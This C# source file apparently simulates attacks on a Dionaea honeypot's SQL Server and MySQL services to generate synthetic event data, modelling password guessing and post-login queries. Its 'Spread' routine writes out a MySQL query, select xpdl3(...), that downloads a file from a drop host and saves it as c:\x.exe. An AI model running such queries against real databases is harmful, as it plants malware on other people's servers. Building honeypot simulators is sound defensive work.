using System.Text;

namespace Dionaea.Analysis;

/// <summary>Attacks on the database services.</summary>
internal static class SqlAttacks
{
    /// <summary>Password guesses against SQL Server, one connection each; commands after some.</summary>
    public static void MssqlGuess(AttackScript script)
    {
        var client = Wordlists.MssqlClients[script.Attacker.Tool % Wordlists.MssqlClients.Count];
        var guesses = script.Attacker.IsReturning ? script.Random.Between(10, 200) : script.Random.Between(1, 20);
        for (var i = 0; i < guesses && script.GoesOn; i++)
        {
            var connection = script.Accept("mssqld", 1433);
            script.Wait(50, 400);
            if (script.Random.Chance(93))
            {
                script.Report(
                    Origin.MssqlLogin, connection, script.Random.PickSkewed(Wordlists.MssqlUsers), NextPassword(script.Attacker),
                    client.Hostname, client.Application, client.Library);
            }

            if (script.Random.Chance(18))
                Run(script, connection);
            script.Wait(50, 600);
            script.Free(connection);
            script.Wait(200, 3000);
        }
    }

    /// <summary>Password guesses against MySQL, and what is asked of it once inside.</summary>
    public static void MysqlGuess(AttackScript script)
    {
        var guesses = script.Attacker.IsReturning ? script.Random.Between(8, 150) : script.Random.Between(1, 12);
        for (var i = 0; i < guesses && script.GoesOn; i++)
        {
            var connection = script.Accept("mysqld", 3306);
            script.Wait(50, 300);
            if (script.Random.Chance(90))
            {
                var user = script.Random.PickSkewed(Wordlists.MysqlUsers);
                script.Report(Origin.MysqlLogin, connection, Encoding.UTF8.GetBytes(user), "");
                Ask(script, connection);
            }

            script.Free(connection);
            script.Wait(200, 2500);
        }
    }

    /// <summary>The next password of an attacker's list; the lists of two attackers start at different places.</summary>
    public static string NextPassword(Attacker attacker) =>
        Wordlists.Passwords[((attacker.IsReturning ? attacker.Tool % 7 : attacker.Tool % 23) + attacker.Tried++) % Wordlists.Passwords.Count];

    private static void Run(AttackScript script, SampleConnection connection)
    {
        for (var i = script.Random.Between(1, 4); i > 0; i--)
        {
            // Clients of TDS 7.2 and later send headers first, of which only one byte is left before a zero.
            var command = script.Random.Chance(15)
                ? [0x16]
                : Encoding.UTF8.GetBytes(script.Random.PickSkewed(Wordlists.MssqlCommands));
            script.Report(Origin.MssqlCommand, connection, "complete", command);
            script.Wait(50, 500);
        }
    }

    private static void Ask(AttackScript script, SampleConnection connection)
    {
        if (script.Random.Chance(12))
            script.Report(Origin.MysqlCommand, connection, 2, (string[])["mysql"]);
        for (var i = 1 + script.Random.Skewed(5); i > 0; i--)
            script.Report(Origin.MysqlCommand, connection, 3, (string[])[script.Random.PickSkewed(Wordlists.MysqlQueries)]);
        if (script.Random.Chance(6))
            script.Report(Origin.MysqlCommand, connection, 4, (string[])["user", "%"]);
        if (script.Random.Chance(5))
            script.Report(Origin.MysqlCommand, connection, script.Random.Pick([9, 10, 14]), (object?)null);
        if (script.Random.Chance(3))
            Spread(script, connection);
        script.Wait(50, 500);
        if (script.Random.Chance(80))
            script.Report(Origin.MysqlCommand, connection, 1, (object?)null);
    }

    // A function that fetches a file, then a file written by a query; the latter has no URL.
    private static void Spread(AttackScript script, SampleConnection connection)
    {
        var url = $"http://{script.Random.PickSkewed(Wordlists.DropHosts)}/{script.Random.PickSkewed(Wordlists.FileNames)}";
        script.Report(Origin.MysqlCommand, connection, 3, (string[])[$"select xpdl3('{url}', 'c:\\x.exe')"]);
        script.Report(Origin.Offer, connection, Encoding.UTF8.GetBytes(url));
        script.Wait(500, 4000);
        script.Capture(connection, script.Random.Chance(50) ? "" : url, script.Binaries.Choose(BinaryGroup.Server, script.Day));
    }
}
